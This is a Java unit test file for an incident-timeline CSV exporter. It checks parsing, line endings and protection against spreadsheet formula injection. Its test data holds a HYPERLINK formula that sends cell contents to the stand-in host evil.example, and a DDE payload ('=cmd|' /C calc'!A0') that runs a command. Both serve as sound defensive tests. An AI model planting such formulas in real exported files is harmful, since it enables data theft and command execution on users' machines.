package dev.muster.timeline.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import dev.muster.incident.Actor;
import dev.muster.incident.Entry;
import dev.muster.incident.Kind;
import dev.muster.incident.UserId;
import dev.muster.timeline.Row;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {

    private static final String FORMULA = "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")";

    @Test
    void isReadBackByAnotherParser() {
        Tale tale = Tale.ofEverything();

        List<NamedCsvRecord> read = read(tale);

        assertThat(read).hasSameSizeAs(tale.rows());
        assertThat(read.get(0).getHeader())
                .containsExactly(
                        "seq",
                        "at",
                        "recordedAt",
                        "kind",
                        "actor",
                        "actorId",
                        "text",
                        "key",
                        "channel",
                        "ts",
                        "threadTs",
                        "version",
                        "edited",
                        "deleted",
                        "files",
                        "data",
                        "hash",
                        "previous");
        for (Row row : tale.rows()) {
            NamedCsvRecord line = read.get((int) row.seq() - 1);
            assertThat(line.getField("seq")).isEqualTo(String.valueOf(row.seq()));
            assertThat(line.getField("hash")).isEqualTo(row.hash());
            assertThat(line.getField("previous")).isEqualTo(row.previous());
            assertThat(line.getField("kind")).isEqualTo(row.entry().kind().lasting());
        }
        NamedCsvRecord edit = read.get(7);
        assertThat(edit.getField("version")).isEqualTo("2");
        assertThat(edit.getField("edited")).isEqualTo("true");
        assertThat(edit.getField("deleted")).isEqualTo("false");
        assertThat(edit.getField("channel")).isEqualTo("C0ROOM");
        assertThat(read.get(6).getField("threadTs")).isEqualTo("1795183560.000100");
        assertThat(read.get(11).getField("files")).isEqualTo("pool.png");
        assertThat(read.get(8).getField("data")).isEqualTo("{\"from\":\"sev2\",\"to\":\"sev1\"}");
        assertThat(read.get(8).getField("key")).isEqualTo("true");
        assertThat(read.get(12).getField("deleted")).isEqualTo("true");
        assertThat(read.get(12).getField("actor")).isEmpty();
    }

    @Test
    void endsLinesAsTheStandardAsks() {
        String text = Tale.ofEverything().export(Format.CSV);

        assertThat(text).endsWith("\r\n").doesNotStartWith("\ufeff");
        assertThat(text.replace("\r\n", "")).doesNotContain("\r", "\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a,b",
                "\"quoted\"",
                "one\ntwo",
                "one\r\ntwo",
                " blank at both ends ",
                "\"",
                ",",
                "naïve 🚒 שלום",
                "semi;colon",
                "",
                "'already'"
            })
    void keepsWordsAsTheyAre(String words) {
        assertThat(read(new Tale(words)).get(0).getField("text")).isEqualTo(words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "\tplain",
                "\rplain",
                " =1",
                "\u00a0=1",
                "\ufeff=1",
                "\u200b=1",
                "\u202e=1",
                "＝1",
                "＋1",
                "－1",
                "＠SUM",
                "=cmd|' /C calc'!A0",
                "=\"a\",=\"b\""
            })
    void putsAnApostropheBeforeWhatASpreadsheetWouldCalculate(String words) {
        Entry entry = Entry.of(Tale.START, Kind.NOTE, new Actor(new UserId(words + "U"), words), words);
        Tale tale = new Tale("t").add(entry).file(Tale.BOB, "x", words);

        List<NamedCsvRecord> read = read(tale);

        assertThat(read.get(1).getField("text")).isEqualTo("'" + words);
        assertThat(read.get(1).getField("actor")).isEqualTo("'" + words);
        assertThat(read.get(1).getField("actorId")).startsWith("'");
        assertThat(read.get(2).getField("files")).isEqualTo("'" + words);
    }

    @Test
    void leavesNoCellThatBeginsAFormulaWhateverIsInTheRows() {
        Actor evil = new Actor(new UserId("=U"), FORMULA);
        Entry entry = Entry.of(Tale.START, Kind.NOTE, evil, "x\n" + FORMULA).with(FORMULA, List.of(FORMULA));
        Tale tale = new Tale(FORMULA)
                .add(entry)
                .file(evil, FORMULA, FORMULA, FORMULA)
                .say(evil, "a\",\r\n=1+1");

        for (NamedCsvRecord line : read(tale)) {
            assertThat(line.getFields()).noneMatch(cell -> cell.strip().matches("(?s)[=+\\-@].*"));
        }
    }

    private static List<NamedCsvRecord> read(Tale tale) {
        return CsvReader.builder().ofNamedCsvRecord(tale.export(Format.CSV)).stream()
                .toList();
    }
}
